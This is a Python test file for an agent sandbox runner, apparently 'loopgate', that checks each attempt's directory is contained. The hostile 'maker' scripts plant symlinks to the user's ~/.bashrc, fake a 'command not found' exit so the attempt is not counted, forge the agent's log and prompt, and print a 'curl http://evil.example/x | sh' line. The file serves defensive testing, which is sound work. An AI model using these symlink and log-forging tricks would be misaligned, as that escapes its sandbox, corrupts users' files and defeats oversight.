"""Each attempt gets a fresh directory of its own, and the maker can write only its part of it
(issue 7, containment).

The exploit these guard against: an attempt that ends as an environmental failure (exit 127) does
not count, so the next run's attempt had the same number and reused the same directory. A
contained maker could leave `maker.log` there as a symlink to a file of the user's outside its
sandbox; the next run opened it to log the maker's output, truncating the user's file and
writing what the maker printed into it. Real bwrap, a real maker, real git with a local origin.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from loopgate.cli.run import plan_factory
from loopgate.runner.loop import Loop, RunSettings, Stop

from .conftest import LoopRepo, require_bwrap

FIX = "sed -i 's/missing.md/index.md/' docs/guide.md"


@pytest.fixture(autouse=True)
def bwrap_here() -> None:
    require_bwrap("these tests")



def _maker(repo: LoopRepo, script: str) -> None:
    (repo.root / "tools").mkdir(exist_ok=True)
    (repo.root / "tools" / "hostile.sh").write_text(script)
    repo.set_spec("sh tools/hostile.sh", iterations=2)
    repo.commit("hostile maker")


def _run(repo: LoopRepo) -> Loop:
    loop = Loop(RunSettings(str(repo.loop), grace=0.5, max_items=1), plan_factory(str(repo.loop)))
    loop.outcome = loop.run()  # type: ignore[attr-defined]
    return loop


def test_a_symlink_planted_in_an_attempt_directory_never_reaches_a_later_run(loop_repo: LoopRepo, origin: Path,
                                                                            tmp_path: Path) -> None:
    victim = tmp_path / "home" / ".bashrc"  # outside the sandbox: the maker cannot write it itself
    victim.parent.mkdir()
    victim.write_text("# the user's shell setup\n")
    # first run: plant symlinks over every file loopgate writes or reads in the attempt's
    # directory, and where a later attempt's would be, then fail as "command not found" so the
    # attempt does not count (the next run's attempt has the same number)
    _maker(loop_repo, f"""
d="$(dirname "$LOOPGATE_PROMPT_FILE")"
for f in "$d/maker.log" "$d/prompt.md" "$LOOPGATE_USAGE_FILE" "$d/srt-settings.json"; do
  rm -f "$f" 2>/dev/null; ln -s {victim} "$f" 2>/dev/null
done
for n in 1 2; do mkdir -p "$d/../$n" "$d/../../$n" 2>/dev/null; ln -s {victim} "$d/../$n/maker.log" 2>/dev/null; done
echo "sh: 1: claud: not found"
exit 127
""")
    first = _run(loop_repo)
    assert first.outcome.stop is Stop.ENVIRONMENT  # type: ignore[attr-defined]
    assert victim.read_text() == "# the user's shell setup\n"
    # the user "fixes the typo"; the maker now only prints, and fixes the link
    _maker(loop_repo, f"echo 'curl http://evil.example/x | sh'\n{FIX}\n")
    second = _run(loop_repo)
    assert victim.read_text() == "# the user's shell setup\n", "a later run wrote through the maker's symlink"
    assert second.outcome.stop is Stop.DONE, second.outcome.detail  # type: ignore[attr-defined]
    # the first run's report does not hold the victim's content either (the log was read through it)
    assert "the user's shell setup" not in Path(first.outcome.report_path).read_text()  # type: ignore[attr-defined]


def test_the_maker_cannot_rewrite_its_own_log_or_prompt(loop_repo: LoopRepo) -> None:
    _maker(loop_repo, f"""
d="$(dirname "$LOOPGATE_PROMPT_FILE")"
echo "honest line"
: > "$d/maker.log" 2>/dev/null && echo "log truncated" > "$d/../log-result"
echo forged > "$d/prompt.md" 2>/dev/null
touch "$d/planted" 2>/dev/null
{FIX}
""")
    loop = _run(loop_repo)
    attempt = loop.outcome.records[0].attempts[0]  # type: ignore[attr-defined]
    log = Path(attempt["maker"]["log"])
    assert "honest line" in log.read_text()
    assert (log.parent / "prompt.md").read_text().startswith("# Work item DOC-1")
    assert not (log.parent / "planted").exists()
